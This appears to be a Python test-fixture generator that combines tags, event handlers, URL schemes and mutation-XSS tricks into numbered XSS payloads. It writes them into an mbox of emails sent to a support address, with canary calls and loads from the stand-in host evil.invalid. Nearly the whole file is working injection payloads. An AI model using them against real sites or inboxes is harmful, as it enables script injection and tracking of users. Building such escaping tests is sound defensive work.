"""Markup that runs, loads or leaves wherever something forgets to escape it, made by combining.

A trick calls ``hurt(n)`` if a script of its runs, and loads something from EVIL if it can load.
"""

from __future__ import annotations

import html
from base64 import b64encode
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

EVIL = "http://evil.invalid"
US = "support@northwind.example"
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "iframe",
    "object data=x",
    "embed src=x",
    "marquee",
    "form",
    "select autofocus",
    "math",
    "style",
    "link rel=stylesheet href=x",
    "a href=# autofocus tabindex=1",
    "div tabindex=1",
    "textarea autofocus",
    "button autofocus",
    "isindex",
    "x contenteditable autofocus",
)
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
    "oncontentvisibilityautostatechange",
    "hx-on::load",
    "hx-on:htmx:load",
)
_SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\x01javascript:{}",
    "&#106;avascript:{}",
    "&#x6A;avascript&colon;{}",
    "javascript&#58;{}",
    "vbscript:{}",
    "data:text/html,<script>parent.{}</script>",
    "data:text/html;base64,{64}",
    "//evil.invalid/{}",
    "data:image/svg+xml,<svg onload={}>",
)
_PLACES = (
    '<a href="{}" autofocus>a</a>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<form action="{}"><input type=submit></form>',
    '<img src="{}">',
    '<button formaction="{}">a</button>',
    '<base href="{}">',
    '<area href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<svg><a xlink:href="{}"><text>a</text></a></svg>',
    '<math href="{}">a</math>',
    '<svg><use href="{}#a"/></svg>',
    '<iframe srcdoc="{}"></iframe>',
    '<link rel=stylesheet href="{}">',
)
# What only becomes markup when it is read a second time (Heiderich et al., mXSS Attacks, 2013).
_TWICE = (
    '<svg></p><style><a title="</style><img src onerror={}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror={}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    '<noscript><p title="</noscript><img src onerror={}>">',
    "<listing>&lt;img onerror={} src&gt;",
    '<svg><style><img title="</style><img src onerror={}>"></svg>',
    "<xmp><p title='</xmp><svg/onload={}>'>",
    '<template><p title="</template><img src onerror={}>">',
    "<textarea></textarea><svg/onload={}>",
    '<title><p title="</title><img src onerror={}>">',
    "<select><style></select><svg/onload={}></style>",
    "<svg><foreignObject><iframe srcdoc='&lt;script&gt;parent.{}&lt;/script&gt;'>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x>",
    "<svg><script href='data:,{}'/>",
    "<svg><script>{}</script>",
    "<math><script>{}</script>",
    '<a href="x`" `onmouseover={}>',
    "<p/onclick={}//autofocus>",
    "<plaintext><svg/onload={}>",
    "<table><td background='javascript:{}'>",
    "<frameset onload={}>",
    "<dialog open onclose={}>",
)
_AROUND = (
    "<!--><script>{}</script>-->",
    "<!--!><script>{}</script>",
    "<!-- --!><script>{}</script>",
    "<![CDATA[><script>{}</script>]]>",
    "<!--[if gte IE 4]><script>{}</script><![endif]-->",
    '<?xml version="1.0"?><script>{}</script>',
    "<!DOCTYPE x [<!ENTITY a '<script>{}</script>'>]>&a;",
    "<script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script/x>{}</script >",
    "<SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>",
    "<scr\x00ipt>{}</script>",
    "<script\x0c>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "--></style></script><script>{}</script>",
    "</textarea></title></template><script>{}</script>",
    "`;{};//",
    "${{{}}}",
    "{{% include 'x' %}}{}",
    "{{{{ constructor.constructor('{}')() }}}}",
    "</div></article></body></html><script>{}</script>",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{}",
    "&#60script&#62{}&#60/script&#62",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{}",
    "\u202e<script>{}</script>",
    "<script type=module>{}</script>",
    "<script nonce=x>{}</script>",
    "<script defer>{}</script>",
    "<hx-partial hx-target='body'><script>{}</script></hx-partial>",
)
_LOADING = (
    '<img src="{}">',
    '<img srcset="{} 1x, {} 2x">',
    '<picture><source srcset="{}"><img></picture>',
    '<video poster="{}" autoplay src="{}"></video>',
    '<audio src="{}" autoplay></audio>',
    '<track src="{}">',
    '<input type=image src="{}">',
    '<body background="{}">',
    '<table background="{}">',
    '<p style="background:url({})">a</p>',
    "<style>@import '{}';</style>",
    '<link rel=preload as=image href="{}">',
    "<style>@font-face{{font-family:a;src:url({})}}*{{font-family:a}}</style>",
    '<link rel=prefetch href="{}">',
    '<link rel=dns-prefetch href="{}">',
    '<link rel=icon href="{}">',
    '<svg><image href="{}"/></svg>',
    '<svg><feImage href="{}"/></svg>',
    '<a ping="{}" href="{}">a</a>',
    '<meta http-equiv=refresh content="0;{}">',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<base href="{}/">',
    '<div hx-get="{}" hx-trigger="load">a</div>',
    '<div hx-sse:connect="{}">a</div>',
    '<portal src="{}"></portal>',
    '<form action="{}" id=f><input name=a></form>',
    '<script src="{}"></script>',
    '<link rel=modulepreload href="{}">',
    '<div data-why="{}" data-read data-put="{}">a</div>',
    '<a href="{}" download>a</a>',
    "{}/picture.png",
    "<style>li{{list-style:url({})}}</style>",
    '<img src="//evil.invalid/{}">',
    '<img src="\\\\evil.invalid\\{}">',
    '<img src="ftp://evil.invalid/{}">',
    '<bgsound src="{}">',
    '<image src="{}">',
    '<html manifest="{}">',
)


def tricks() -> Iterator[str]:
    """Every trick, each with a number of its own."""
    shapes = [f"<{tag} {event}={{}}>" for tag, event in product(_TAGS, _EVENTS)]
    shapes += [place.format(scheme) for place, scheme in product(_PLACES, _SCHEMES)]
    number = 0
    for shape in (*shapes, *_TWICE, *_AROUND):
        number += 1
        call = f"hurt({number})"
        packed = b64encode(f"<script>parent.{call}</script>".encode()).decode()
        yield _with(shape, call).replace("{64}", packed)
    for shape in _LOADING:
        number += 1
        yield _with(shape, f"{EVIL}/{number}")


def _with(shape: str, said: str) -> str:
    return shape.replace("{{", "\0").replace("}}", "\1").replace("{}", said).translate(_BRACES)


_BRACES = {0: "{", 1: "}"}


def mailbox(found: list[str], in_thread: int = 20) -> str:
    """A file of letters in threads, each trick in every place of its letter that people see."""
    return "".join(_letter(number, one, in_thread) for number, one in enumerate(found))


def _letter(number: int, trick: str, in_thread: int) -> str:
    thread = number // in_thread
    first = f"<trick-thread-{thread}@evil.example>"
    own = first if number % in_thread == 0 else f"<trick-number-{number}@evil.example>"
    word = f"=?utf-8?b?{b64encode(_in_head(trick)).decode()}?="
    shown = f"<p>{trick}</p><p>{html.escape(trick)}</p><p>trick {number} ends</p>"
    return (
        f"From e@evil.example Mon Mar  2 09:00:00 2026\nFrom: {word} <eve{thread}@evil.example>\n"
        f"To: {US}\nSubject: {word}\nMessage-ID: {own}\nReferences: {first}\n"
        f"Date: Mon, 02 Mar 2026 09:{number % 60:02}:{number // 60:02} +0000\n"
        "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
        f"--b\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
        f"{b64encode(shown.encode('utf-8', 'replace')).decode()}\n"
        f"--b\nContent-Type: image/svg+xml\nContent-Disposition: attachment;\n"
        f" filename*=utf-8''{quote(_in_head(trick), safe='')}\n\n"
        "<svg onload='parent.hurt(0)'/>\n--b--\n\n"
    )


def _in_head(trick: str) -> bytes:
    return trick.encode("utf-8", "replace")[:300]
